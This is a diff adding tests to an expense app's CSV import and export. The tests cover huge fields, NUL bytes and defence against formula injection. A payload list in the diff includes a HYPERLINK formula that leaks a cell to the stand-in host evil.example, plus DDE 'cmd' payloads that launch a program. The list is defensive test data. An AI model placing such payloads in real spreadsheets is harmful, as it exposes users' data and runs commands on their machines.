@@ -128,3 +128,71 @@ async def test_limits(client: Client, user: Session) -> None:
     too_big = "title,amount,spent_on\n" + ("x" * 100 + ",1,2024-01-01\n") * (IMPORT_FILE_MAX_BYTES // 100)
     assert (await upload(client, user, too_big)).status_code == 413
     assert await export(client, user) == []
+
+
+async def test_a_huge_field_is_a_row_error_not_a_crash(client: Client, user: Session) -> None:
+    # Python's csv module refuses fields over 131,072 characters with csv.Error; that must name the row.
+    content = "title,amount,spent_on,notes\nfine,1,2024-01-01,\nhuge,1,2024-01-02," + "n" * 140_000 + "\n"
+    response = await upload(client, user, content)
+    assert response.status_code == 400, response.text
+    assert response.headers["content-type"].startswith("application/problem+json")
+    problem = {"row": 3, "field": "file", "message": "has a field longer than 131072 characters"}
+    assert response.json()["errors"] == [problem]
+    assert await export(client, user) == []
+
+
+async def test_nul_bytes_are_refused_with_row_and_column(client: Client, user: Session) -> None:
+    content = "title,amount,spent_on,category,notes\nok,1,2024-01-01,,\nnu\x00l,1,2024-01-02,Ca\x00t,a\x00b\n"
+    response = await upload(client, user, content)
+    assert response.status_code == 400, response.text
+    assert response.json()["errors"] == [
+        {"row": 3, "field": "title", "message": "must not contain NUL characters"},
+        {"row": 3, "field": "notes", "message": "must not contain NUL characters"},
+        {"row": 3, "field": "category", "message": "must not contain NUL characters"},
+    ]
+    assert await export(client, user) == []
+
+
+DANGEROUS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "'=already quoted",
+    "'plain apostrophe",
+)
+
+
+async def test_export_neutralises_formulas_and_reimports_unchanged(client: Client, user: Session) -> None:
+    for index, text in enumerate(DANGEROUS):
+        category = await client.post(
+            "/api/categories", json={"name": f"{text[:40]}{index}", "color": "#123456"}, headers=user.headers
+        )
+        assert category.status_code == 201, category.text
+        body = {
+            "title": text,
+            "amount": "1.00",
+            "spent_on": f"2024-03-{index + 1:02d}",
+            "category_id": category.json()["id"],
+            "notes": "\t" + text if index % 2 else "\r" + text,
+        }
+        assert (await client.post("/api/expenses", json=body, headers=user.headers)).status_code == 201
+    exported = await export(client, user, "sort=spent_on")
+    for row in exported:
+        for field in ("title", "notes", "category"):
+            # OWASP CSV injection: a cell a spreadsheet would evaluate starts with a quote instead.
+            assert row[field][0] not in "=+-@\t\r", (field, row[field])
+    assert exported[0]["title"] == "'" + DANGEROUS[0]
+    assert exported[5]["title"] == "''=already quoted"
+    assert exported[6]["title"] == "'plain apostrophe"
+
+    text = (await client.get("/api/expenses/export.csv?sort=spent_on", headers=user.headers)).text
+    newcomer = await sign_in(client)
+    result = await upload(client, newcomer, text)
+    assert result.status_code == 201, result.text
+    stored = (await client.get("/api/expenses?sort=spent_on", headers=newcomer.headers)).json()["items"]
+    assert [e["title"] for e in stored] == list(DANGEROUS)
+    assert [e["notes"] for e in stored] == [("\t" if i % 2 else "\r") + t for i, t in enumerate(DANGEROUS)]
+    names = {c["name"] for c in (await client.get("/api/categories", headers=newcomer.headers)).json()}
+    assert {f"{t[:40]}{i}" for i, t in enumerate(DANGEROUS)} <= names
